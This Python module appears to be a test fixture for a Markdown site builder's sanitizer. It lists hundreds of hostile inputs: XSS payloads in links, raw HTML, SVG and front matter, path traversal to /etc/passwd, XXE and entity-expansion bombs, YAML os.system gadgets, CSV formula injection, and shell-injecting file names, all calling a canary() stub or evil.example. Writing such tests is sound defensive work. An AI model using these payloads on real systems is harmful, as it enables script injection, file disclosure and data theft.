"""What people have tried elsewhere: each case is the files that an author could leave.

A script that runs calls `canary()`. `refused` says that a strict check must name the case's
file; without it the words must be harmless as they stand.
"""

from __future__ import annotations

from dataclasses import dataclass, field

RUN = "canary()"


@dataclass
class Case:
    name: str
    files: dict[str, str | bytes] = field(default_factory=dict)
    refused: bool = False


def page(name: str, text: str, refused: bool = False) -> Case:
    return Case(name, {f"{name}.md": f"# Case {name}\n\n{text}\n"}, refused)


LINKS = [  # address, refused
    (f"javascript:{RUN}", True),
    (f"JaVaScRiPt:{RUN}", True),
    (f"javascript&colon;{RUN}", True),
    (f"&#x6A;avascript:{RUN}", True),
    (f"&#0000106;avascript:{RUN}", True),
    (f"java&#9;script:{RUN}", True),
    (f"java&#10;script:{RUN}", True),
    (f"&#1;javascript:{RUN}", True),
    (f"&#32;javascript:{RUN}", True),
    (f"\u200bjavascript:{RUN}", True),
    (f"javascript%3A{RUN}", True),
    (f"vbscript:{RUN}", True),
    (f"feed:javascript:{RUN}", True),
    (f"view-source:javascript:{RUN}", True),
    ("data:text/html,<script>canary()</script>", True),
    ("data:text/html;base64,PHNjcmlwdD5jYW5hcnkoKTwvc2NyaXB0Pg==", True),
    ("data:image/svg+xml,<svg onload=canary()>", True),
    ("blob:https://evil.example/x", True),
    ("//evil.example/x", True),
    ("/\\\\evil.example/x", True),
    ("\\\\\\\\evil.example\\\\share", True),
    ("file:///etc/passwd", True),
    ("/etc/passwd", True),
    ("../../outside.txt", True),
    ("..%2f..%2foutside.txt", True),
    ("%2e%2e/%2e%2e/outside.txt", True),
    ("....//....//outside.txt", True),
    ("../content/../../outside.txt", True),
    ('https://evil.example/"onmouseover=canary()"', False),
    ("https://evil.example/'onmouseover='canary()", False),
    ("https://evil.example/%22%3E%3Cscript%3Ecanary()%3C/script%3E", False),
    ("mailto:a@b.example?subject=%22%3E<script>canary()</script>", False),
]

RAW = [
    f"<script>{RUN}</script>",
    f"<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    f"<scr<script>ipt>{RUN}</scr</script>ipt>",
    f"<script\n>{RUN}</script\n>",
    f"<img src=x onerror={RUN}>",
    f"<IMG SRC=javascript:{RUN}>",
    f"<svg onload={RUN}>",
    f"<svg><script>{RUN}</script></svg>",
    f"<svg><a xlink:href=javascript:{RUN}>x</a></svg>",
    f"<math><mi href=javascript:{RUN}>x</mi></math>",
    f"<iframe src=javascript:{RUN}></iframe>",
    f"<iframe srcdoc='<script>{RUN}</script>'></iframe>",
    f"<object data=javascript:{RUN}></object>",
    "<embed src=//evil.example/x.swf>",
    "<base href=//evil.example/>",
    f"<meta http-equiv=refresh content='0;url=javascript:{RUN}'>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>@import url(//evil.example/x.css); body { background: url(//evil.example/) }</style>",
    f"<form action=javascript:{RUN}><button>x</button></form>",
    f"<button formaction=javascript:{RUN}>x</button>",
    f"<input autofocus onfocus={RUN}>",
    f"<details open ontoggle={RUN}><summary>x</summary></details>",
    f"<marquee onstart={RUN}>x</marquee>",
    f"<video><source onerror={RUN}></video>",
    f"<body onload={RUN}>",
    f"<mark onclick={RUN}>x</mark>",
    "<kbd style='background:url(//evil.example/)'>x</kbd>",
    f"<sup\x0conclick={RUN}>x</sup>",
    f"<template><script>{RUN}</script></template>",
    f"<noscript><p title=\"</noscript><img src=x onerror={RUN}>\"></noscript>",
    f"<textarea></textarea><img src=x onerror={RUN}></textarea>",
    f"<xmp></xmp><script>{RUN}</script>",
    f"<plaintext><script>{RUN}</script>",
    f"<!--><script>{RUN}</script>-->",
    f"<!-- --!><img src=x onerror={RUN}> -->",
    f"<![CDATA[ ><script>{RUN}</script> ]]>",
    f"<?xml ><img src=x onerror={RUN}> ?>",
    f"<!DOCTYPE x [<!ENTITY y '<script>{RUN}</script>'>]>",
    f"<a href=javascript:{RUN}>x</a>",
    f"</main></body><script>{RUN}</script>",
    f"<dialog open><script>{RUN}</script></dialog>",
    f"<portal src=javascript:{RUN}></portal>",
    f"<custom-x is=x onclick={RUN}>x</custom-x>",
    # Pieces that make a tag once something between them is cut out.
    f"<hr><b><details>1 onfocus={RUN} autofocus tabindex=1 <br>",
    f"<<details>img src=x onerror={RUN}>",
    f"<b <i>onclick={RUN}</i>>x</b>",
    f"<summary><details><img src=x onerror={RUN}>",
    f"</summary></details><svg onload={RUN}>",
    f"<kbd><details></kbd></details><script>{RUN}</script>",
    # Attributes and their quotes.
    f"<b title=\"<img src=x onerror={RUN}>\">x</b>",
    f"<b title='-->' onmouseover={RUN}>x</b>",
    f"<b/onclick={RUN}//>x</b>",
    f"<b\tonclick\t=\t{RUN}>x</b>",
    f"<b x='\"' onclick={RUN} y='\"'>x</b>",
    f"<b ==onclick={RUN}>x</b>",
    f"<b \" onclick={RUN}>x</b>",
    f"<b a=`'` onclick={RUN}>x</b>",
    f"<p><a href='java&#10;script:{RUN}'>x</a></p>",
    f"<a href='&#1;javascript:{RUN}'>x</a>",
    f"<a href=jAvAsCrIpT&colon;{RUN}>x</a>",
    f"<a href='data:text/html;base64,PHNjcmlwdD4='>x</a>",
    "<a href=//evil.example/>x</a>",
    "<a href='\\\\evil.example'>x</a>",
    "<a href='../../outside.txt'>x</a>",
    "<img src='../outside.txt' alt=x>",
    f"<img src='data:image/svg+xml,<svg/onload={RUN}>' alt=x>",
    f"<table><tr><td colspan='2' onclick={RUN}>x</td></tr></table>",
    f"<h2 id='x\" onclick={RUN}' onmouseover={RUN}>x</h2>",
    f"<base href=//evil.example/><a href=a.md>x</a>",
    f"<a href=a.md><svg><a xlink:href=javascript:{RUN}>y</a></svg></a>",
    f"<a id='x\"><script>{RUN}</script>'>x</a>",
    f"<a name=\"x' onclick='{RUN}\">x</a>",
    f"<a id=x&quot;onclick={RUN}>x</a>",
    f"<a id=javascript:{RUN} name=\"</span><script>{RUN}</script>\">x</a>",
    f"<br id=\"x\" onload={RUN}>",
    f"<IMG alt=\"<script>{RUN}</script>\" src=x>",
    f"<img alt='&lt;script&gt;{RUN}&lt;/script&gt;' src=//evil.example/a>",
    f"<img src=x:x onerror={RUN}<b>",
    "<img srcset='//evil.example/x 1x, //evil.example/y 2x' src=x>",
    "<img src=x lowsrc=//evil.example/ longdesc=//evil.example/ dynsrc=//evil.example/>",
    "<body background=//evil.example/x>",
    "<table background=//evil.example/x><tr><td background=//evil.example/y>x</td></tr></table>",
    "<video poster=//evil.example/x src=//evil.example/y autoplay></video>",
    "<audio src=//evil.example/x autoplay></audio>",
    "<picture><source srcset=//evil.example/x><img src=x></picture>",
    "<input type=image src=//evil.example/x>",
    "<link rel=preload as=image href=//evil.example/x>",
    "<link rel=dns-prefetch href=//evil.example>",
    "<link rel=import href=//evil.example/x>",
    "<meta http-equiv=refresh content=0;//evil.example/>",
    "<meta http-equiv='Content-Security-Policy' content=\"script-src 'unsafe-inline'\">",
    "<frameset><frame src=//evil.example/></frameset>",
    "<iframe src=//evil.example/></iframe>",
    "<embed src=//evil.example/x type=text/html>",
    "<object data=//evil.example/x></object>",
    f"<applet code=x onerror={RUN}></applet>",
    "<bgsound src=//evil.example/x>",
    "<track src=//evil.example/x>",
    "<style>@font-face { font-family: x; src: url(//evil.example/x) } body { font-family: x }</style>",
    "<style>body { background: image-set('//evil.example/x' 1x) }</style>",
    "<b style='background:\\75rl(//evil.example/)'>x</b>",
    # Text that another parser reads as tags.
    f"<noscript><style></noscript><img src=x onerror={RUN}></style></noscript>",
    f"<textarea><title></textarea><img src=x onerror={RUN}></title>",
    f"<title><textarea></title><img src=x onerror={RUN}></textarea>",
    f"<style><!--</style><img src=x onerror={RUN}>--></style>",
    f"<script><!--<script></script><img src=x onerror={RUN}>--></script>",
    f"<xmp><!--</xmp><img src=x onerror={RUN}>--></xmp>",
    f"<iframe><!--</iframe><img src=x onerror={RUN}>--></iframe>",
    f"<noembed></noembed><img src=x onerror={RUN}></noembed>",
    f"<noframes></noframes><img src=x onerror={RUN}></noframes>",
    f"<template></template><img src=x onerror={RUN}></template>",
    f"<select><option><style></option></select><img src=x onerror={RUN}></style>",
    f"<svg><style><img src=x onerror={RUN}></style></svg>",
    f"<svg><title><img src=x onerror={RUN}></title></svg>",
    f"<svg><desc><script>{RUN}</script></desc></svg>",
    f"<svg></p><style><a id=\"</style><img src=x onerror={RUN}>\">",
    f"<svg><![CDATA[</svg><img src=x onerror={RUN}>]]></svg>",
    f"<svg><animate attributeName=href values=javascript:{RUN} /></svg>",
    f"<svg><use href=\"data:image/svg+xml,<svg id=x onload={RUN}/>#x\"/></svg>",
    f"<svg><foreignObject><img src=x onerror={RUN}></foreignObject></svg>",
    f"<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror={RUN}&gt;\">",
    f"<math><annotation-xml encoding=text/html><script>{RUN}</script></annotation-xml></math>",
    f"<math><mi><style></math><img src=x onerror={RUN}></style>",
    f"<form><math><mtext></form><form><mglyph><style></math><img src=x onerror={RUN}>",
    f"<math href=javascript:{RUN}>x</math>",
    f"<!--><img src=x onerror={RUN}>-->",
    f"<!---><img src=x onerror={RUN}>-->",
    f"<!-- <!-- --><img src=x onerror={RUN}> -->",
    f"<!-- --!><img src=x onerror={RUN}>-->",
    f"<! foo=\">\" bar=\"<img src=x onerror={RUN}>\">",
    f"</ foo=\"><script>{RUN}</script>\">",
    f"<? foo=\"><script>{RUN}</script>\" ?>",
    f"<![CDATA[<script>{RUN}</script>]]>",
    # Tables, lists and formatting that browsers move about.
    f"<table><script>{RUN}</script></table>",
    f"<table><tr><td><b></table><img src=x onerror={RUN}></b>",
    f"<table><a href=javascript:{RUN}>x</a></table>",
    f"<table><caption><svg onload={RUN}></caption></table>",
    f"<p><b><p><i></b><script>{RUN}</script></i>",
    f"<a><b><a><b><script>{RUN}</script>",
    f"<ul><li><img src=x onerror={RUN}><li></ul>",
    f"<dl><dt><dd><svg onload={RUN}></dl>",
    f"<details><summary><img src=x onerror={RUN}></details>",
    f"<pre>\n<img src=x onerror={RUN}></pre>",
    f"<figure><figcaption><script>{RUN}</script></figure>",
    f"<blockquote onclick={RUN}><p onclick={RUN}>x</blockquote>",
    f"<li onclick={RUN}>x</li>",
    f"<td onclick={RUN}>x</td>",
    f"</p></article></div></main><img src=x onerror={RUN}>",
    f"</title></head><body onload={RUN}>",
    f"<html onclick={RUN}><head><script>{RUN}</script></head></html>",
    f"<isindex type=image src=1 onerror={RUN}>",
    f"<image src=x onerror={RUN}>",
    f"<keygen autofocus onfocus={RUN}>",
    f"<dialog open onclose={RUN}><form method=dialog><button autofocus>x</button></form></dialog>",
    f"<label for=x onclick={RUN}>x</label>",
    f"<select autofocus onfocus={RUN}></select>",
    f"<textarea autofocus onfocus={RUN}></textarea>",
    f"<marquee loop=1 width=0 onfinish={RUN}>x</marquee>",
    f"<a href=x ping=//evil.example/>x</a>",
    f"<b contenteditable onfocus={RUN} autofocus>x</b>",
    f"<b popover id=x>x</b><button popovertarget=x onclick={RUN}>y</button>",
    f"<x onanimationstart={RUN} style='animation-name:x'>x</x>",
    f"<b is=x-y slot=z part=w>x</b>",
    f"<script src=data:,{RUN}></script>",
    f"<script type=module>import 'data:text/javascript,{RUN}'</script>",
    f"<script>\n\n{RUN}\n\nMarkdown",
    f"<style>\n\n@import '//evil.example/';\n\nMarkdown",
    f"<!-- never closed\n\n<script>{RUN}</script>",
    f"<\x00script>{RUN}</script>",
    f"<b\x1b onclick={RUN}>x</b>",
    f"<\x01img src=x onerror={RUN}><!-- never closed",
]

QUIET = [  # Markdown that must end as text
    # No tags, once read.
    f"<<!-- x -->script>{RUN}<<!-- x -->/script>",
    f"<<b></b>img src=x onerror={RUN}>",
    f"<scr<!-- -->ipt>{RUN}</scr<!-- -->ipt>",
    f"<i<!-- -->mg src=x onerror={RUN}>",
    f"&lt<b>script>{RUN}</b>",
    f"<img alt=x src=x onerror={RUN}//",
    f"<svg/onload={RUN}>",
    f"<!--[if gte IE 4]><script>{RUN}</script><![endif]-->",
    f"&lt;script&gt;{RUN}&lt;/script&gt;",
    f"&amp;lt;script&amp;gt;{RUN}&amp;lt;/script&amp;gt;",
    f"```\n</code></pre><script>{RUN}</script>\n```",
    f"```x\"><script>{RUN}</script>\ntext\n```",
    f"`</code><script>{RUN}</script>`",
    f"[x](https://evil.example/ \"\\\"><script>{RUN}</script>\")",
    f"![\" onerror=\"{RUN}](logo.svg)",
    f"![x](logo.svg '\"><script>{RUN}</script>')",
    f"x[^\"onclick={RUN}]\n\n[^\"onclick={RUN}]: note",
    "[EV-01] and [ev-01]",
    "| a |\n|---|\n| `<script>canary()</script>` |",
    "> [!NOTE]\n> `<img src=x onerror=canary()>`",
    "\u202escript:canary()\u202c \u2066x\u2069",
    "- [ ] `</li><script>canary()</script>`",
    f"## `<script>{RUN}</script>` \"onclick={RUN}\n\ntext",
    "https://evil.example/<script>canary()</script>",
    "www.evil.example/\"onclick=canary()",
    "zterme and `zterme`",
    f"<img src=`x` onerror={RUN}>",
    f"<br/onload={RUN}>",
    f"<summary/onclick={RUN}>x</summary>",
]

FRONT = [  # front matter, refused
    (f"title: '<script>{RUN}</script>'", False),
    (f"summary: '\"><img src=x onerror={RUN}>'", False),
    (f"tags: ['\"><script>{RUN}</script>']", False),
    (f"owner: '\"><script>{RUN}</script>'", False),
    (f"aliases: ['../../../x.html', '/etc/x', '\"><script>{RUN}</script>', 'javascript:{RUN}']", False),
    ("title: !!python/object/apply:os.system ['touch hacked']", False),
    (f"title: !!js/function 'function(){{{RUN}}}'", False),
    ("? *x\n: 1", False),  # no front matter: text
    ("title: x\n? *x\n: 1", True),
    ("a: &a [x,x,x,x,x,x,x,x,x]\nb: &b [*a,*a,*a,*a,*a,*a,*a,*a,*a]\nc: &c [*b,*b,*b,*b,*b,*b,*b,*b]\n"
     "d: &d [*c,*c,*c,*c,*c,*c,*c,*c]\ne: &e [*d,*d,*d,*d,*d,*d,*d,*d]\nf: &f [*e,*e,*e,*e,*e,*e,*e]\n"
     "g: {? *f : 1, ? [*f] : 2}", True),
    ("title: &a [*a]", True),
    ("a: &a [x,x,x,x,x,x,x,x,x]\nb: &b [*a,*a,*a,*a,*a,*a,*a,*a,*a]\nc: &c [*b,*b,*b,*b,*b,*b,*b,*b]\n"
     "d: &d [*c,*c,*c,*c,*c,*c,*c,*c]\ne: &e [*d,*d,*d,*d,*d,*d,*d,*d]\nf: [*e,*e,*e,*e,*e,*e,*e,*e]", True),
    ("order: 99999999999999999999999", True),
    ("order: .nan", True),
    ("<<: {title: x}\ntitle: y", True),
    ("title: " + "[" * 5000, True),
    ("title: a\ntitle: b", True),
    ("reviewed: 2026-02-31", True),
    ("review-every: 999999999 years", True),
    ("title: \"a\\0b\"", False),
    ("%TAG ! tag:evil.example,2000:\ntitle: x", False),
    (f"'\"><script>{RUN}</script>': x", True),
]

SVG = [  # what stands in an <svg>, refused
    f"<script>{RUN}</script>",
    f"<foreignObject><body xmlns='http://www.w3.org/1999/xhtml' onload='{RUN}'/></foreignObject>",
    f"<rect onclick='{RUN}' width='9' height='9'/>",
    "<image href='https://evil.example/x.png'/>",
    "<use href='https://evil.example/x.svg#a'/>",
    f"<a xmlns:xlink='http://www.w3.org/1999/xlink' xlink:href='javascript:{RUN}'><text>x</text></a>",
    "<style>@import url(https://evil.example/x.css);</style>",
    "<rect style='fill:url(https://evil.example/x)' width='9' height='9'/>",
    f"<set attributeName='onmouseover' to='{RUN}'/>",
    f"<animate attributeName='href' values='javascript:{RUN}'/>",
    f"<x:script xmlns:x='http://www.w3.org/2000/svg'>{RUN}</x:script>",
    f"<iframe xmlns='http://www.w3.org/1999/xhtml' srcdoc='&lt;script>{RUN}&lt;/script>'/>",
    "<rect fill='u&#114;l(https://evil.example/p.svg#a)' width='9' height='9'/>",
    "<rect fill='u\\72l(https://evil.example/p.svg#a)' width='9' height='9'/>",
    "<rect style='filter:u\\000072 l(&quot;https://evil.example/f#a&quot;)' width='9' height='9'/>",
    "<style>svg{background:u\\72l(https://evil.example/b.png)}</style>",
    "<style>svg{background-image:image-set('https://evil.example/set.png' 1x)}</style>",
    "<style>svg{background-image:-webkit-image-set(url(https://evil.example/w.png) 1x)}</style>",
    "<style>@\\69mport 'https://evil.example/i.css';</style>",
    "<style><![CDATA[@import 'https://evil.example/c.css';]]></style>",
    "<style>@font-face{font-family:q;src:u\\72l(https://evil.example/f.woff2)}text{font-family:q}"
    "</style><text y='9'>q</text>",
    "<h:meta xmlns:h='http://www.w3.org/1999/xhtml' http-equiv='refresh' "
    "content='0;url=https://evil.example/m'/>",
    "<h:img xmlns:h='http://www.w3.org/1999/xhtml' srcset='https://evil.example/s.png 1x'/>",
    "<h:link xmlns:h='http://www.w3.org/1999/xhtml' rel='stylesheet' href='https://evil.example/l'/>",
    "<h:form xmlns:h='http://www.w3.org/1999/xhtml' action='https://evil.example/'>"
    "<h:input autofocus='' onfocus='canary()'/></h:form>",
    "<h:body xmlns:h='http://www.w3.org/1999/xhtml' background='https://evil.example/b.png'/>",
    "<image href='data:image/svg+xml,&lt;svg xmlns=\"http://www.w3.org/2000/svg\" "
    "onload=\"canary()\"/>'/>",
    "<use href='data:image/svg+xml,&lt;svg id=\"a\" xmlns=\"http://www.w3.org/2000/svg\">"
    "&lt;script>canary()&lt;/script>&lt;/svg>#a'/>",
    "<feImage href='https://evil.example/fe.png'/>",
    "<g xml:base='https://evil.example/'><use href='#a'/></g>",
    "<path d='M0 0'/>" * 300_000 + f"<script>{RUN}</script>",
]

SVG_FILES = [
    f"<svg xmlns='http://www.w3.org/2000/svg' onload='{RUN}'/>",
    f"<?xml-stylesheet href='javascript:{RUN}'?><svg xmlns='http://www.w3.org/2000/svg'/>",
    "<!DOCTYPE svg [<!ENTITY x SYSTEM 'file:///etc/passwd'>]><svg xmlns='http://www.w3.org/2000/svg'>"
    "<text>&x;</text></svg>",
    "<!DOCTYPE svg [<!ENTITY a 'aaaaaaaa'><!ENTITY b '&a;&a;&a;&a;'>]>"
    "<svg xmlns='http://www.w3.org/2000/svg'><text>&b;</text></svg>",
    f"<s:svg xmlns:s='http://www.w3.org/2000/svg'><s:script>{RUN}</s:script></s:svg>",
    f"<!--{'x' * 9000}--><svg xmlns='http://www.w3.org/2000/svg'><script>{RUN}</script></svg>",
    f"\ufeff<svg xmlns='http://www.w3.org/2000/svg'><script>{RUN}</script></svg>".encode("utf-16"),
    f"<html><script>{RUN}</script></html>",
    f"<svg xmlns='http://www.w3.org/2000/svg'><script>{RUN}</script></svg>".encode("utf-16-le"),
    f"<?xml version='1.0' encoding='UTF-7'?><svg xmlns='http://www.w3.org/2000/svg'>"
    f"+ADw-script+AD4-{RUN}+ADw-/script+AD4-</svg>",
    f"<!DOCTYPE svg [<!ATTLIST svg onload CDATA '{RUN}'>]><svg xmlns='http://www.w3.org/2000/svg'/>",
    "<svg width='9' height='9'/>", "<svg xmlns='http://www.w3.org/2000/svg'><text>R&D</text></svg>",
    b"\x89PNG\r\n\x1a\n<script>canary()</script>",
]

HTML = f"<!doctype html><script>{RUN}</script>"
FILES = [  # other files that a page may lead to
    ("evil.html", HTML), ("evil.HTM", HTML), ("evil.xhtml", HTML), ("evil.xml", HTML),
    ("evil.mht", HTML), ("evil.shtml", HTML), ("evil.js", RUN), ("evil.svgz", b"\x1f\x8b\x08\x00"),
    ("evil", HTML), ("evil.unknown", HTML), ("gif.html", "GIF89a" + HTML),
    ("evil.html\u00a0", HTML), ("evil.h\u00f8tml", HTML), ("evil.js\u200b", RUN),
    ("web.config", "<configuration/>"), ("evil.php", "<?php"), ("index.html.fr", HTML),
    ("evil.png", HTML), ("evil.pdf", HTML), ("evil.SVG ", SVG_FILES[0]), ("evil.ics", HTML),
    ("robots.txt", "Disallow:"), ("desktop.ini", "x"), ("evil.css", "@import '//evil.example/'"),
]

TABLES = {  # the sample's columns, each cell hostile
    "mots.csv": "dire;éviter;pourquoi\n"
    f"<script>{RUN}</script>;zmauvais;\"<img src=x onerror={RUN}>\"\n"
    "=cmd|'/c calc'!A1;@SUM(A1);+1\n",
    "glossaire.csv": f"terme;définition\nzterme;\"\"\"><script>{RUN}</script>\"\n"
    f"\"<b onclick={RUN}>\";x\n",
    "changements.csv": f"date;document;règle;version;quoi;pourquoi\n2026-09-01;;;;<script>{RUN}</script>;"
    f"javascript:{RUN}\n",
    "calendrier.csv": "id;date;réseau;format;titre;état;lien\n"
    f"\"\"\"><script>{RUN}</script>\";2026-10-05;zreseau;post;\"<img src=x onerror={RUN}>\";idée;"
    f"javascript:{RUN}\n"
    "b;2026-10-06;zreseau;post;\"a\nATTACH:javascript:canary()\nEND:VEVENT\";idée;\n",
    "couleurs.csv": "nom;hex\n\"</style><script>canary()</script>\";#112233\n"
    "noir;\"#000}body{background:url(//evil.example)}\"\n",
    "veille.csv": f"quoi;outil;fréquence;rôle\n<script>{RUN}</script>;javascript:{RUN};\"\"\"onclick={RUN}\";x\n",
    "synonymes.csv": f"terme;synonymes\n<script>{RUN}</script>;\"</script><script>{RUN}</script>\"\n",
    "relais.csv": f"titre;adresse;texte\n<script>{RUN}</script>;javascript:{RUN};\"<img src=x onerror={RUN}>\"\n",
}

NAMES = [  # file names
    "a\"onclick=canary().md", "a'b.md", "<script>canary()</script>.md".replace("/", "∕"), "a&lt;b.md",
    "a\nb.md", "a\u202egnp.md", "a b%20c.md", "%2e%2e%2fx.md", "..x.md", "CON.md", "x" * 200 + ".md",
    "é\u0301.md", "日本.md", "a\\..\\b.md", "javascript:canary().md", "-rf.md", "$(touch hacked).md",
    "`x`.md", "a;b.md", "a|b.md", "\x7f.md", "a\tb.md", "index.html.md", "404.md", "assets.md",
]

RECORDS = {
    "contacts/index.md": "---\ncollection: contact\n---\n# Contacts\n",
    "contacts/joindre.md": "---\ntéléphone: '\"><script>canary()</script>'\ncourriel: "
    "'javascript:canary()'\nmessagerie: 'javascript:canary()'\nhoraires: '<img src=x onerror=canary()>'\n"
    "pour: ['\"><script>canary()</script>']\n---\n# `</a><script>canary()</script>`\n",
    "reseaux/index.md": "---\ncollection: réseau\n---\n# Réseaux\n",
    "reseaux/zreseau.md": "---\nétat: actif\ncadence: 1/semaine\nadresse: 'javascript:canary()'\n"
    "titre-court: '\"><script>canary()</script>'\n---\n# `<script>canary()</script>`\n",
    "regles/index.md": "---\ncollection: règle\n---\n# Règles\n",
    "regles/EV-01.md": "---\nforce: doit\nrésumé: '\"onmouseover=canary() x=\"'\n---\n"
    "# A \"quoted\" `<script>canary()</script>` title\n\n## Pourquoi\n\nx\n",
    "textes/index.md": "---\ncollection: texte\n---\n# Textes\n",
    "textes/court.md": "---\nlongueur: court\n---\n# Court\n\n`</textarea><script>canary()</script>`\n",
}


def is_anchor(raw: str) -> bool:
    """Whether nothing is left out of it: the name of a place becomes a plain one."""
    return raw.startswith(("<a id=", "<a name=")) and "&quot;" not in raw


def all_cases() -> list[Case]:
    cases = [page(f"lien{n:02}", f"[x](<{a}>)", bad) for n, (a, bad) in enumerate(LINKS)]
    cases += [page(f"image{n:02}", f"![x](<{a}>)", True) for n, (a, _) in enumerate(LINKS[:24])]
    cases += [page(f"reference{n:02}", f"[x][r]\n\n[r]: <{a}>", bad)
              for n, (a, bad) in enumerate(LINKS[:8])]
    cases += [page(f"autolien{n:02}", f"<{a}>") for n, (a, _) in enumerate(LINKS[:20])]
    cases += [page(f"brut{n:02}", f"{raw}\n\nand in a line {raw}", not is_anchor(raw))
              for n, raw in enumerate(RAW)]
    cases += [page(f"texte{n:02}", text) for n, text in enumerate(QUIET)]
    cases += [Case(f"tete{n:02}", {f"tete{n:02}.md": f"---\n{front}\n---\n# Case tete{n:02}\n"}, bad)
              for n, (front, bad) in enumerate(FRONT)]
    inside = [f"<svg xmlns='http://www.w3.org/2000/svg' width='9' height='9'>{one}</svg>" for one in SVG]
    for n, one in enumerate(inside + SVG_FILES):
        text = f"![x](dessin{n:02}.svg) and [x](dessin{n:02}.svg)"
        case = page(f"svg{n:02}", text, True)
        case.files[f"dessin{n:02}.svg"] = one
        cases.append(case)
    for n, (name, content) in enumerate(FILES):
        case = page(f"fichier{n:02}", f"[x](<fichiers/{n:02}/{name}>)", True)
        case.files[f"fichiers/{n:02}/{name}"] = content
        cases.append(case)
    cases += [Case(f"table {name}", {name: text}) for name, text in TABLES.items()]
    cases += [Case(f"nom {n:02}", {f"noms/{name}": f"# Name {n:02}\n\nText.\n"})
              for n, name in enumerate(NAMES)]
    cases.append(Case("records", dict(RECORDS)))
    return cases


SETTINGS = [
    "nom", "entreprise", "adresse", "thème", "accent", "proposer", "fuseau", "langue", "crise",
    "problèmes", "style", "cibles", "inconnu",
]
VALUES = [
    f"'\"><script>{RUN}</script>'",
    f"'javascript:{RUN}'",
    "'../../../../etc'",
    f"['</title><img src=x onerror={RUN}>']",
    "{x: {type: dossier, chemin: '/tmp/$(touch hacked)'}}",
    "'#000;}body{background:url(//evil.example/)}'",
    "&a [*a]",
]
